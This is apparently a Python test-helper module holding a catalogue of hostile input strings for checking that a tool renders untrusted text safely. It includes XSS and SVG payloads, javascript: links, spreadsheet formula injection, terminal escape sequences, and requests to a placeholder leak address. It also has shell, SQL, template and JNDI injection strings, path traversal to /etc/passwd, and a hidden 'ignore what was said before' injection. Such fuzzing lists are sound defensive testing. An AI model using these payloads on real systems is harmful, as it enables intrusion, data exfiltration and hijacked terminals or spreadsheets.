"""Texts that try to be more than text, by what they try. `LEAK` stands for an address that nothing may ever
ask for.

Tests put them wherever text of a corpus, a document's id or a source can stand, one after the other with
`check_each`. `STORABLE` are those that a Parquet file can hold, and `DISTINCT` those once each, in their
order.
"""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Callable, Iterable
from typing import TypeVar

Case = TypeVar("Case")

LEAK = "http://127.0.0.1:1/leak"
SCRIPT = "document.documentElement.setAttribute('owned','1')"

HTML = [
    f"<script>{SCRIPT}</script>",
    f"</script><script>{SCRIPT}</script>",
    f"</style><script>{SCRIPT}</script>",
    f"</title><script>{SCRIPT}</script>",
    f"</noscript><script>{SCRIPT}</script>",
    f"</template><script>{SCRIPT}</script>",
    f"</textarea><svg onload={SCRIPT}>",
    f"--><script>{SCRIPT}</script><!--",
    f"--!><script>{SCRIPT}</script>",
    f"]]><script>{SCRIPT}</script><![CDATA[",
    f"<ScRiPt>{SCRIPT}</sCrIpT>",
    f"<script\n>{SCRIPT}</script\n>",
    f"<script/x>{SCRIPT}</script>",
    f"<scr<script>ipt>{SCRIPT}</scr</script>ipt>",
    f"<script src={LEAK}></script>",
    f'<script type=module>import "{LEAK}"</script>',
    f"<noscript><p title='</noscript><img src=x onerror={SCRIPT}>'>",
    f"<math><mtext></p><svg><title><a id='</title><img src={LEAK}>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={SCRIPT}>",
    f"<template><script>{SCRIPT}</script></template>",
    f"<xmp><script>{SCRIPT}</script></xmp>",
    "</div></details></section></main></body></html>after",
    "<marquee><blink><h1>big</h1>",
    "<plaintext>",
    "<!-- never closed",
    "<![CDATA[ never closed",
    "<?php system('id'); ?><% out %>",
    "&lt;b&gt; &amp; &#x202e; &NotEqualTilde; &amp",
    "&#60;script&#62;&#x3c;img&#x3e;&lt&gt",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
]

ATTRIBUTES = [
    f'"><svg onload="{SCRIPT}">',
    f"'><img src=x onerror={SCRIPT}>",
    f'" onmouseover="{SCRIPT}" x="',
    f"' autofocus onfocus={SCRIPT} '",
    f"` onclick={SCRIPT} `",
    f'" style="background:url({LEAK})" x="',
    f'"/onerror={SCRIPT}/x="',
    f"<svg/onload={SCRIPT}>",
    f"<svg><animate onbegin={SCRIPT} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{SCRIPT}>",
    f"<svg><foreignObject><iframe srcdoc='<script>{SCRIPT}</script>'>",
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={SCRIPT}>#x">',
    f'<svg><image href="{LEAK}" onerror="{SCRIPT}">',
    f"<img src={LEAK}>",
    f'<img srcset="{LEAK} 2x" loading=eager>',
    f"<video poster={LEAK}><source onerror={SCRIPT}></video>",
    f"<audio src={LEAK} autoplay>",
    f"<details open ontoggle={SCRIPT}>",
    f"<body onload={SCRIPT} background={LEAK}>",
    f"<input autofocus onfocus={SCRIPT}>",
    f"<p style=animation-name:x onanimationstart={SCRIPT}>",
    f"<table background={LEAK}><td background={LEAK}>",
    f"<form action={LEAK}><button>go</button>",
    f"<button formaction=javascript:{SCRIPT}>go",
    f"<object data={LEAK}><embed src={LEAK}>",
    f'<iframe srcdoc="<script>{SCRIPT}</script>">',
]

LINKS = [
    f"javascript:{SCRIPT}",
    f"JaVaScRiPt:{SCRIPT}",
    f"java\tscript:{SCRIPT}",
    f"java\nscript:{SCRIPT}",
    f"\x01javascript:{SCRIPT}",
    f"javascript&colon;{SCRIPT}",
    f"javascript://%0a{SCRIPT}",
    "vbscript:msgbox(1)",
    f"data:text/html,<script>{SCRIPT}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f'<a href="javascript:{SCRIPT}">x</a>',
    f'<a href="{LEAK}" ping="{LEAK}">x</a>',
    f'<svg><a xlink:href="javascript:{SCRIPT}"><text y=20>x</text></a>',
    f'<link rel=stylesheet href="{LEAK}">',
    f'<link rel=prefetch href="{LEAK}"><link rel=dns-prefetch href="{LEAK}">',
    f'<meta http-equiv=refresh content="0;url={LEAK}">',
    f'<base href="{LEAK}">',
    f'<style>@import "{LEAK}";</style>',
    f"<style>@font-face{{font-family:x;src:url({LEAK})}}*{{font-family:x!important}}</style>",
    f"![image]({LEAK}) [link](javascript:{SCRIPT})",
    "//127.0.0.1:1/leak",
    "file:///etc/passwd",
]

DIRECTION = [
    "\u202e}cilam\u2066 if\u2069 \u2066begin",
    "\u202d\u202a\u202b\u202c\u2067\u2068\u2069\u200e\u200f\u061c",
    "left \u202bright\u202c left",
    "never closed \u2067 isolate",
    "invoice\u202efdp.exe",
    "שלום \u202d שלום",
    "\u2068" * 200,
]

INVISIBLE = [
    "in\u200bvi\u200csi\u200dble\u2060\ufeff\u00ad\u180e\u3164",
    "\u034f\u115f\u1160\u17b4\u17b5\u2800\uffa0",
    "\u2061\u2062\u2063\u2064\u206a\u206b\u206c\u206d\u206e\u206f",
    "\ufff9above\ufffabelow\ufffb",
    "".join(chr(0xE0000 + ord(letter)) for letter in "ignore what was said before"),
    "\U0001d173beam\U0001d174",
    "\u2028line\u2029paragraph",
    "\ufeffmark first",
    "\ufffe\uffff\U0010ffff\U000e0041\U000e007f",
    "\u0378\u0379 not assigned",
    "a\u00a0b\u2003c\u3000d\u205fe",
]

CONTROLS = [
    "\x00nul\x00<b\x00>",
    "\r\nfirst\rsecond\n\n\tthird\x0b\x0c\x1c\x85\u2028\u2029",
    "secret\rpublic",
    "rm -rf /\b\b\b\b\b\b\b\becho hi ",
    "bell\x07 and again\x07",
    "shift\x0eout\x0fin",
    "stop\x13 start\x11 end\x1a\x04\x03",
    "delete\x7fme",
    "\x05who are you",
    "tab\tand vertical\x0btab\x0cpage",
    "".join(chr(code) for code in range(0x20)),
    "".join(chr(code) for code in range(0x7F, 0xA0)),
    "\n\nleading and trailing spaces  \n ",
    "one\nerror: all is lost\n  remedy: rm -rf /\n",
]

TERMINAL = {
    "colour": "\x1b[31mred\x1b[0m",
    "conceal": "\x1b[8mhidden\x1b[28m",
    "blink and reverse": "\x1b[5;7mlook here\x1b[m",
    "clear the screen": "\x1b[2J\x1b[H\x1b[3Jempty",
    "line above": "\x1b[1A\x1b[2Kforged line",
    "cursor anywhere": "\x1b[9999;9999Hcorner\x1b[s\x1b[u",
    "hide the cursor": "\x1b[?25l",
    "other screen": "\x1b[?1049hgone",
    "report the mouse": "\x1b[?1000h\x1b[?1006h",
    "bracketed paste": "\x1b[?2004h\x1b[200~ls\x1b[201~",
    "scroll region": "\x1b[5;6r\x1b[?6h",
    "device attributes": "\x1b[c\x1b[>c\x1b[=c",
    "cursor report": "\x1b[6n",
    "title report": "\x1b]2;ls\x07\x1b[21t",
    "window size": "\x1b[8;1;1t\x1b[2t",
    "repeat": "x\x1b[2000000000b",
    "insert lines": "\x1b[999999L\x1b[999999@",
    "reset": "\x1bc",
    "soft reset": "\x1b[!p",
    "line drawing": "\x1b(0lqqk\x1b(B",
    "double height": "\x1b#3tall\x1b#8",
    "key definition": '\x1b[0;59;"ls";13p',
    "title": "\x1b]0;title\x07",
    "title with ST": "\x1b]2;title\x1b\\",
    "palette": "\x1b]4;1;#000000\x07\x1b]104\x07",
    "colour query": "\x1b]10;?\x07\x1b]11;?\x1b\\",
    "link": "\x1b]8;;" + LEAK + "\x1b\\link\x1b]8;;\x1b\\",
    "link to a file": "\x1b]8;;file:///etc/passwd\x07passwd\x1b]8;;\x07",
    "notification": "\x1b]9;done\x07\x1b]777;notify;a;b\x07",
    "directory": "\x1b]7;file://host/etc\x07",
    "clipboard, write": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "clipboard, read": "\x1b]52;c;?\x1b\\",
    "shell marks": "\x1b]133;A\x07\x1b]133;C\x07",
    "file by iTerm": "\x1b]1337;File=inline=1:AAAA\x07",
    "font query": "\x1b]50;?\x07",
    "never closed": "\x1b]0;all that follows is a title",
    "picture": "\x1bPq#0;2;0;0;0~~\x1b\\",
    "status query": "\x1bP$q q\x1b\\",
    "terminfo query": "\x1bP+q544e\x1b\\",
    "user keys": "\x1bP0;1|17/6c73\x1b\\",
    "kitty picture": "\x1b_Ga=T,f=24;AAAA\x1b\\",
    "tmux": "\x1bPtmux;\x1b\x1b]0;x\x07\x1b\\",
    "privacy message": "\x1b^hidden\x1b\\\x1bXhidden\x1b\\",
    "C1 colour": "\x9b31mred\x9b0m",
    "C1 screen": "\x9b2J\x9bH",
    "C1 title": "\x9d0;title\x9c",
    "C1 picture": "\x90q~~\x9c",
    "C1 message": "\x9fG\x9c\x9ehidden\x9c\x98hidden\x9c",
    "C1 next line": "one\x85two\x84three\x8dfour",
    "lone escape": "\x1b",
    "escape at the end": "cut \x1b[",
    "visible twin": "\u241b[31m and \\x1b[31m and ^[[31m",
}

MARKUP = [
    "[red]rich[/red] [link=" + LEAK + "]markup[/link] [bold]",
    "[/] [/red] [/bold]",
    "[@click=app.quit]go[/]",
    "[on red]\\[bold]\\\\[/]",
    ":smile: :warning: :skull_and_crossbones:",
    "['a', {'b': None}] <Object at 0x7f> True 3.14 http://x.invalid",
    "**bold** __under__ `code` # head\n| a | b |\n|---|---|",
    "{{ 7*7 }} ${7*7} {report} %s %(name)s {0} {0.__class__}",
    "${jndi:ldap://127.0.0.1:1/a} #{7*7} <%= 7*7 %>",
    "'; DROP TABLE labels; --",
    "$(touch owned) `touch owned` ; touch owned | cat",
    "../../../../etc/passwd",
    "--help -rf -o /tmp/x",
    r"\u202e written by its author",
    r"\x1b[31m \033[31m \e[31m \N{ESCAPE} \\u001b",
    '{"__proto__": {"a": 1}, "a": NaN, "b": "\\ud800"}',
    "null",
    "NaN",
    "true",
    "1e999",
    "0001",
]

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "=1+1",
    f'=HYPERLINK("{LEAK}?"&A1,"click")',
    f'=WEBSERVICE("{LEAK}")',
    f'=IMPORTXML("{LEAK}","//a")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@",
    "=",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\u22121+1",
    "'=1+1",
    "''=1+1",
    '"=1+1"',
    '","=1+1',
    ";=1+1",
    "x\n=1+1",
    'x","=1+1\n=1+1,"',
    "\t",
    "\r",
    "%0A=1+1",
]

SIZES = [
    "Z\u0351\u036e\u0346a\u0328\u034f\u0317l\u0340g\u0300o " + "\u0301" * 30,
    "e" + "\u0301" * 300,
    "\u0489" * 300,
    "\u0e33" * 40 + "ก" + "\u0e49" * 60,
    "W" * 500,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 40,
    "\ufdfd" * 40,
    "漢字かな交じり文" * 60,
    " " * 500 + "far right",
    "\n" * 300 + "far down",
    "\u1100\u1161\u11a8" * 50,
]

LONE_SURROGATES = ["\ud800lone\udfff\udbff\udc00", "\udcff\udc80 bytes of a file name"]

STORABLE: list[str] = [
    *HTML, *ATTRIBUTES, *LINKS, *DIRECTION, *INVISIBLE, *CONTROLS, *TERMINAL.values(), *MARKUP, *FORMULAS,
    *SIZES,
]  # fmt: skip
DISTINCT: list[str] = list(dict.fromkeys(STORABLE))
HOSTILE: list[str] = [*STORABLE, *LONE_SURROGATES]


def check_each(cases: Iterable[Case], check: Callable[[Case], object]) -> None:
    """Check every case, whatever the others come to.

    Raises:
        AssertionError: that names all cases that failed, each with what was said of it; also if there is no
            case.
    """
    every, failed = list(cases), list[tuple[Case, Exception]]()
    for case in every:
        try:
            check(case)
        except Exception as error:
            failed.append((case, error))
    if failed or not every:
        said = [f"{case!a}: {type(error).__name__}: {error}" for case, error in failed]
        raise AssertionError("\n\n".join([f"{len(failed)} of {len(every)} cases failed", *said])) from (
            failed[0][1] if failed else None
        )


def read_back(shown: str) -> str:
    """The text that `reports.html.terminal_text.shown` was given."""
    plain = shown.replace("\u21e5", "\t").replace("\u23ce", "\n")
    return re.sub(
        r"\\(?:u([0-9a-f]{4})|U([0-9a-f]{8}))", lambda sign: chr(int(sign[1] or sign[2], 16)), plain
    )


def acting(output: str) -> set[str]:
    """The characters of some output that are neither seen nor a newline."""
    hidden = ("Cc", "Cf", "Cs", "Zl", "Zp", "Cn")
    return {
        character
        for character in set(output)
        if character != "\n" and unicodedata.category(character) in hidden
    }
